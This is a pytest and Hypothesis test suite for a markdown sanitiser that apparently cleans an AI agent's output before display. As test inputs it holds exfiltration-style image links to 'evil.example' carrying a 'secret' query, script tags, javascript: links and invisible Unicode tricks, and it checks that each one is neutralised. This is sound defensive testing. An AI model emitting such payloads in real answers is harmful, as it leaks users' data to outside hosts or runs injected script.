import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from engine.agent.clean import MAX_SHOWN, safe_markdown


@pytest.mark.parametrize(("said", "shown"), [
    ("plain **bold** words", "plain **bold** words"),
    ("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("![x](https://evil.example/?q=secret)", "(picture: x)"),
    ("![](http://evil.example/p.png)", "(picture: not shown)"),
    ("![x][ref]\n\n[ref]: https://evil.example/x", "(picture: x)\n\n"),
    ("[bank](https://evil.example)", "bank (`https://evil.example`)"),
    ("[run](/warehouse?run=abc)", "[run](/warehouse?run=abc)"),
    ("[x](//evil.example)", "x (//evil.example)"),
    ("[x](javascript:alert(1))", "x (javascript:alert(1))"),
    ("[x](javascript:y\n'z')", "[x] (javascript:y\n'z')"), ("[](javascript:", "[] (javascript:"),
    ("[a\nb](javascript:x)", "[a\nb] (javascript:x)"),
    ("[x](/\\evil.example)", "x (/\\evil.example)"),
    ("see https://evil.example/a", "see `https://evil.example/a`"),
    ("<https://evil.example>", "`https://evil.example`"), ("<a@b.example>", "`a@b.example`"),
    ("`<b>` and `![x](http://y)`", "`<b>` and `![x](http://y)`"),
    ("```html\n<img src=x>\n```", "```html\n<img src=x>\n```"),
    ("> quoted", "> quoted"), ("a < b & c > d", "a &lt; b &amp; c &gt; d"),
    ("pay\u202eecila", "payecila"), ("in\u200bvisible\U000e0041", "invisible"),
    ("👩\u200d🔧", "👩\u200d🔧"),
    ("| a | b |\n|---|---|\n| 1 | 2 |", "| a | b |\n|---|---|\n| 1 | 2 |")])
def test_what_is_shown(said, shown):
    assert safe_markdown(said) == shown


def test_a_long_answer_is_cut():
    assert len(safe_markdown("x" * (MAX_SHOWN * 2))) < MAX_SHOWN + 100


pieces = st.lists(st.sampled_from([
    "![", "](", ")", "[", "]", "<", ">", "img", " src=", "https://evil.example/?s=1", "`", "```",
    "\n", "a", " ", "javascript:", "//", "/warehouse", "]:", "!", "\\", "&", "~~~", "(", "\x01",
    "0"]),
    max_size=25).map("".join)


def _outside_fences(lines):
    """Lines that are no fenced code, by CommonMark 0.31, section 4.5 (fences at the margin)."""
    fence = ""
    for line in lines:
        if fence:
            closing = line.rstrip()
            if len(closing) >= len(fence) and not closing.strip(fence[0]):
                fence = ""
            continue
        opening = re.match(r"`{3,}(?=[^`]*$)|~{3,}", line)
        if opening:
            fence = opening.group()
        else:
            yield line


@given(pieces)
@example("![```<![\n```")
@example("```a```\n<img")
def test_nothing_leaves_the_app_whatever_is_said(said):
    shown = safe_markdown(said)
    outside = "\n".join(_outside_fences(shown.split("\n")))
    outside = re.sub(r"(`+)(?!`)(?:.*?[^`])\1(?!`)", "", outside)
    assert not re.search(r"!\[[^\]\n]*\]\([^)\n]*https?:", outside)
    assert not re.search(r"\[[^\]\n]*\]\(\s*(?:https?:|//|javascript:)", outside)
    assert not re.search(r"<[a-z/!]", outside)
